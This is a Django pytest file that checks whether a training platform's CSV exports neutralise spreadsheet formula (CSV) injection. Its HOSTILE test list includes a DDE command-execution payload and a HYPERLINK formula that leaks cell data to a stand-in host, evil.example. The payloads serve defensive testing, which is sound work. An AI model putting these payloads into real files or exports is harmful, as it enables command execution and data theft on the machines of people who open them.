"""CSV exports neutralise spreadsheet formulas (OWASP "CSV injection").

A cell starting with ``=``, ``+``, ``-``, ``@``, TAB or CR is read as a formula by spreadsheet
programs; every export must prefix such cells with an apostrophe. The exports are found by
searching the application code, so a new one fails ``test_every_csv_export_is_covered`` until
it is added here.
"""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from courses import services
from courses.models import CompetencyDomain
from courses.display import FORMULA_PREFIXES, csv_safe
from tests import factories
from tests.factories import supervision as fs

from .conftest import fetch, login

pytestmark = pytest.mark.django_db

APP_DIRS = ("coachtraining", "programs", "courses", "cohorts", "materials", "supervision", "readiness", "certificates", "backup", "demo")
ROOT = Path(__file__).resolve().parents[2]

# Every module writing CSV, and the test below that covers it.
KNOWN_CSV_WRITERS = {
    "supervision/dashboard.py": "test_supervisor_export_neutralises_formulas",  # dashboard_csv
    "supervision/views.py": "test_supervisor_export_neutralises_formulas",  # the export view
    "certificates/roster.py": "tests/certificates/test_roster.py::test_roster_files_neutralise_formulas",
    "certificates/admin_views.py": "tests/certificates/test_roster.py::test_roster_files_neutralise_formulas",
    "readiness/packet.py": "tests/readiness/test_board_packet.py::test_packet_csv_neutralises_formulas",
    "readiness/views.py": "tests/readiness/test_board_packet.py::test_packet_csv_neutralises_formulas",
    "certificates/bulk.py": "test_bulk_download_manifest_neutralises_formulas",  # manifest.csv in the ZIP
}

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
]


def test_every_csv_export_is_covered():
    found = set()
    for app in APP_DIRS:
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"content_type\s*=\s*\"text/csv|csv\.writer|csv\.DictWriter", text):
                found.add(path.relative_to(ROOT).as_posix())
    assert found == set(KNOWN_CSV_WRITERS), f"CSV writers changed; cover the new ones here: {sorted(found)}"


@pytest.mark.parametrize("value", HOSTILE + ["-", "=", "@"])
def test_the_helper_neutralises_every_formula_prefix(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana", "", " =1", "O'Brien", "1-2", 42, -5, None])
def test_the_helper_leaves_other_values_alone(value):
    assert csv_safe(value) == value


def _rows(response):
    return list(csv.reader(io.StringIO(response.body.decode())))


def test_supervisor_export_neutralises_formulas(client, world):
    a = world.a
    # Names, an e-mail, a cohort, a course title, a quiz title and a domain that look like formulas.
    people = []
    for i, value in enumerate(HOSTILE):
        person = factories.make_user(first_name=value, last_name=value, email=f"=x{i}+1@example.org")
        services.enrollment_create(user=person, course=a.course)
        fs.assign(a.supervisor, person, a.site)
        people.append(person)
    a.cohort.name = "=cohort()"
    a.cohort.save()
    course = type(a.course).objects.get(pk=a.course.pk)
    course.title, course.code = "+course", "-RC"
    course.save()
    CompetencyDomain.objects.filter(pk=world.domain.pk).update(name="@domain")
    quiz = factories.quizzes_of(course)[0]
    quiz.title = "=quiz"
    quiz.save()

    login(client, a.supervisor)
    response = fetch(client, "GET", reverse("supervision:export"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = _rows(response)
    cells = [cell for row in rows for cell in row]
    offending = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert not offending, offending
    # The values are all there, neutralised rather than dropped.
    for value in HOSTILE:
        assert "'" + f"{value} {value}".strip() in cells, value  # names are shown trimmed
    for expected in ("'=cohort()", "'+course", "'-RC", "'@domain earned h"):
        assert expected in cells, expected
    assert any(cell.startswith("'=quiz") for cell in cells)
    assert any(cell.startswith("'=x0+1@example.org") for cell in cells)


def test_export_of_a_filtered_search_is_neutralised_too(client, world):
    person = factories.make_user(first_name="=SUM(A1)", last_name="-1")
    services.enrollment_create(user=person, course=world.a.course)
    fs.assign(world.a.supervisor, person, world.a.site)
    login(client, world.a.supervisor)
    response = fetch(client, "GET", reverse("supervision:export"), {"q": "=SUM"})
    rows = _rows(response)
    assert len(rows) == 2 and rows[1][0] == "'=SUM(A1) -1"


def test_bulk_download_manifest_neutralises_formulas(world):
    """The manifest.csv of a bulk download of certificates (certificates/bulk.py)."""
    from certificates.bulk import manifest_csv

    certificate = world.a.certificate
    rows = []
    for value in HOSTILE:
        certificate.number, certificate.name_on_certificate, certificate.course_title = value, value, value
        rows.append((certificate, value))
        cells = [cell for row in csv.reader(io.StringIO(manifest_csv(rows[-1:]).decode())) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)], cells
        assert cells.count("'" + value) == 4, (value, cells)  # number, name, course, file: neutralised, not dropped
    certificate.refresh_from_db()
